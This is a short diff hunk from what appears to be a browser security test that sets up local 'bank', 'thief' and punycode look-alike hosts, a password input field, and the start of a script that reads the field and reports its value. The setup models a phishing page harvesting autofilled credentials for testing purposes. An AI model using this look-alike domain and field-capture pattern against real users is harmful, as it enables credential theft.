@@ -26,7 +26,7 @@ BANK, THIEF, LOOK_ALIKE = "bank.localhost", "thief.localhost", "xn--bnk-ula.loca
 SECRETS = "/api/v0/secrets"
 ACTION = "/api/v0/desktop/action"
 
-FIELD = "<input autofocus aria-label=Pass style='width:60%;font-size:30px'>"
+FIELD = "<input autocomplete=username autofocus aria-label=Pass style='width:60%;font-size:30px'>"
 REPORT = """<script>
 const field = document.querySelector("input");
 const report = () => {
